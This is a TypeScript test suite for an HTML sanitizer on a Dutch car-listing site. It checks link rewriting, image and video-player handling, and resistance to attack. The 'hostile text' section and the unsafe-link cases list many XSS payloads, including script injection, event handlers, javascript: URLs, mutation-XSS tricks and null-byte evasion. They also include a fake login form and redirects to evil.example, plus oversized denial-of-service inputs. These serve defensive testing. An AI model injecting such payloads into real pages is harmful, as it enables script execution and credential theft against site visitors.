import { describe, expect, it } from "vitest";
import fc from "#tests/setup/fast-check.ts";
import { type SafeHtmlContext, safeHtml } from "./safe-html.server.ts";

const context: SafeHtmlContext = {
  lang: "nl",
  origin: "https://cars.example",
  title: "Privacyverklaring",
  picture: (address) => (address.startsWith("/media/") ? address : null),
  player: (address) => (address.startsWith("https://player.example/") ? address : null),
  t: (_, values) => `Bekijk de video op ${values?.host}`,
};
const safe = (html: string) => safeHtml(html, context).html;

describe("a sanitized text", () => {
  it("keeps paragraphs, emphasis, lists and quotes", () => {
    const html =
      '<p>One <strong>two</strong> <em>three</em><br />four</p><ul><li>a</li></ul><ol start="3"><li>b</li></ol><blockquote>c</blockquote><dl><dt>d</dt><dd>e</dd></dl>';
    expect(safe(html)).toBe(html);
  });

  it("has tables that can be scrolled by keyboard, and keeps the scope of their header cells", () => {
    const html =
      '<table border="1" style="x"><tr><th scope="col" colspan="2" width="9">a</th><td rowspan="99999">b</td></tr></table>';
    expect(safe(html)).toBe(
      '<table tabindex="0"><tr><th colspan="2" scope="col">a</th><td>b</td></tr></table>',
    );
  });

  it("has no styles, classes, ids or landmarks", () => {
    expect(safe('<main id="content"><p class="a" style="color:red" id="b" data-x="y">text</p></main>')).toBe(
      "<div><p>text</p></div>",
    );
  });

  it("keeps the words inside unknown and broken markup", () => {
    expect(safe("<font color=red>a</font><marquee>b</marquee><x-y>c</x-y><p>d<b>e</p>f")).toContain("abc");
    expect(safe("1 < 2 & 3 > 2")).toBe("1 &lt; 2 &amp; 3 &gt; 2");
  });
});

describe("links in a text", () => {
  const link = (href: string) => safe(`<a target="_blank" href="${href}">x</a>`);

  it.each([
    ["/contact", "/nl/contact"],
    ["contact?a=1#b", "/nl/contact?a=1#b"],
    ["/en/faq/", "/nl/faq"],
    ["/ar/listing-car?brand_id=3&amp;page=2", "/nl/listing-car?brand_id=3&amp;page=2"],
    ["https://cars.example/terms-of-use", "/nl/terms-of-use"],
    ["/", "/nl"],
    ["/about%20us", "/nl/about%20us"],
    ["/terms.pdf", "/terms.pdf"],
    ["/arabic", "/nl/arabic"],
  ])("to a page of the site use the language of the current page: %s", (href, expected) => {
    expect(link(href)).toBe(`<a href="${expected}">x</a>`);
  });

  it("to a heading of the text work, and links to a missing heading become plain text", () => {
    const text = '<p><a href="#fees">Fees</a> <a href="#lost">lost</a></p><h2 id="fees">Our fees</h2>';
    expect(safe(text)).toContain('<p><a href="#section-our-fees">Fees</a> lost</p>');
  });

  it("to other sites send no referrer", () => {
    const expected = '<a href="https://rdw.example/a?b=c" rel="noopener noreferrer">x</a>';
    expect(link("https://rdw.example/a?b=c")).toBe(expected);
    expect(link("HTTPS://rdw.example/a?b=c")).toBe(expected);
  });

  it("may be mail addresses and phone numbers, with a text direction of their own", () => {
    expect(link("mailto:a@b.example")).toBe('<a href="mailto:a@b.example" dir="auto">x</a>');
    expect(link("tel:+31201234567")).toBe('<a href="tel:+31201234567" dir="auto">x</a>');
  });

  it.each([
    "javascript:alert(1)",
    " java&#10;script:alert(1)",
    "JaVaScRiPt:alert(1)",
    "&#106;avascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "blob:https://cars.example/1",
    "file:///etc/passwd",
    "https://bank.example@evil.example/",
    "https://",
    "",
  ])("to unsafe addresses become plain text: %j", (href) => expect(link(href)).toBe("x"));

  it.each(["//evil.example/a", "\\\\evil.example/a", "/.//evil.example"])(
    "with ambiguous slashes are marked as external or stay on the site: %s",
    (href) => expect(link(href)).toMatch(/href="(https:\/\/evil\.example\/a" rel=|\/evil\.example")/),
  );
});

describe("pictures in a text", () => {
  it("are served from the site's own address and load lazily", () => {
    const html = safe(
      '<img src="/media/a.jpg" alt="A car" width="800" height="600" onerror="x" srcset="https://evil.example/a 2x">',
    );
    expect(html).toContain('src="/pictures/640/media/a.jpg"');
    expect(html).toContain("/pictures/1440/media/a.jpg 1440w");
    expect(html).toContain('alt="A car" width="800" height="600" loading="lazy"');
    expect(html).not.toMatch(/onerror|evil/);
  });

  it.each(["https://tracker.example/p.gif", "data:image/png;base64,AAAA", "javascript:alert(1)", ""])(
    "from other hosts are left out: %s",
    (src) => expect(safe(`<p>a<img src="${src}" alt="b">c</p>`)).toBe("<p>ac</p>"),
  );
});

describe("players in a text", () => {
  it("become a link to the player, and load nothing", () => {
    expect(safe('<iframe src="https://player.example/v/1" allow="x" onload="x">old</iframe>')).toBe(
      '<a class="video player-link" href="https://player.example/v/1" rel="noopener">Bekijk de video op player.example</a>',
    );
  });

  it.each([
    '<iframe src="https://evil.example/v/1"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe></iframe>",
    '<object data="https://player.example/v/1"></object><embed src="https://player.example/v/1">',
  ])("from other hosts or without a host are left out: %s", (html) => {
    expect(safe(`<p>a</p>${html}`)).toBe("<p>a</p>");
  });

  it("do not break the HTML after them", () => {
    const html =
      '<iframe src="https://evil.example"></iframe><table><tr><td>a</td></tr></table><a>b</a><p>c</p>';
    expect(safe(html)).toBe('<table tabindex="0"><tr><td>a</td></tr></table>b<p>c</p>');
  });

  it("cannot be imitated by a class", () => {
    expect(safe('<a class="player-link" href="https://evil.example/">x</a>')).not.toContain("player-link");
  });
});

/** Allowed elements with allowed attributes, all values quoted, no URL that runs a script. */
const element =
  /^<(?:\/?(?:div|p|hr|blockquote|pre|figure|figcaption|[uod]l|li|d[td]|h[2-4]|table|caption|thead|tbody|tfoot|t[rhd]|a|abbr|b|bdi|br|cite|code|em|i|q|s|small|strong|sub|sup|img))(?: (?:dir|id|href|rel|class|title|src|srcset|sizes|alt|width|height|loading|decoding|start|tabindex|colspan|rowspan|scope)="[^"<>]*")*(?: \/)?>$/;

function expectHarmless(html: string) {
  const tags = html.match(/<[^>]*>?/g) ?? [];
  expect(tags.filter((tag) => !element.test(tag))).toEqual([]);
  expect(unbalancedTags(tags)).toEqual([]);
  const urls = tags.flatMap((tag) => / (?:href|src)="([^"]*)"/.exec(tag)?.[1] ?? []);
  expect(urls.filter((value) => !/^(https?:\/\/|mailto:|tel:|\/(?!\/)|#section)/.test(value))).toEqual([]);
}

/** Returns tags that close or swallow what is around the text. */
function unbalancedTags(tags: string[]) {
  const open: string[] = [];
  for (const tag of tags.filter((tag) => !/^<(?:br|hr|img)/.test(tag))) {
    const name = /\w+/.exec(tag)?.[0] ?? "";
    if (!tag.startsWith("</")) open.push(name);
    else if (open.pop() !== name) return [tag];
  }
  return open;
}

const hostileHtml = [
  "<script>alert(1)</script>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<script",
  "<img src=x onerror=alert(1)>",
  "<p onclick=alert(1) onmouseover='x'>a</p>",
  '<svg onload="alert(1)"><script>alert(2)</script><a href="javascript:alert(3)">x</a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)"></style></mglyph></table></mtext></math>',
  "<style>@import 'https://evil.example/a.css'; body{display:none}</style>",
  '<p style="background:url(https://evil.example/a)">a</p>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  "<template><script>alert(1)</script></template>",
  "<textarea></textarea><script>alert(1)</script>",
  '<form action="https://evil.example"><input name="password"><button>Log in</button></form>',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/a.css">',
  "<xmp><img src=x onerror=alert(1)></xmp>",
  "<plaintext><img src=x onerror=alert(1)>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[><img src=x onerror=alert(1)>]]>",
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="#" id="__proto__" name="cookie">x</a>',
  '<h2 id="a" onclick="x">t<h2>u</h2>v</h2>',
  `<h2 id='"><script>alert(1)</script>'>t</h2><a href='#"><script>'>x</a>`,
  "</div></div></main></body></html><p>after",
  "<table><tr><td><div></table></td>x",
  '<p title="<!--"><b title="-->">',
  "\u0000<img\u0000 src=x onerror\u0000=alert(1)>",
];

describe("a hostile text", () => {
  it.each(hostileHtml)("leaves nothing that runs scripts, loads files or adds styles: %s", (html) => {
    const generated = safe(`<p>before</p>${html}`);
    expect(generated).toContain("before");
    expectHarmless(generated);
    expect(generated).not.toMatch(/alert\(2\)|@import|stylesheet/);
  });

  it("is harmless in any combination of its pieces", () => {
    const pieces = fc.array(fc.oneof(fc.constantFrom(...hostileHtml), fc.string({ unit: "grapheme" })), {
      maxLength: 8,
    });
    const truncatedHtml = fc.tuple(pieces, fc.nat(200), fc.nat(40)).map(([parts, at, length]) => {
      const whole = parts.join("");
      return whole.slice(0, at) + whole.slice(at + length);
    });
    fc.assert(fc.property(truncatedHtml, (html) => expectHarmless(safe(html))));
  });

  it.each([
    ["open elements", "<div>".repeat(200_000)],
    ["open headings", "<h2>x".repeat(200_000)],
    ["closed headings of one name", "<h2>x</h2>".repeat(100_000)],
    ["broken tags", "<<a <b ".repeat(150_000)],
    ["attributes", `<p ${"a=1 ".repeat(250_000)}>x</p>`],
    ["links to itself", '<a href="#a">'.repeat(80_000)],
    ["iframes", "<iframe>".repeat(120_000)],
    ["nothing", " ".repeat(1_000_000)],
  ])("with about a megabyte of %s is sanitized", (_, html) => {
    expectHarmless(safe(html));
  });
});
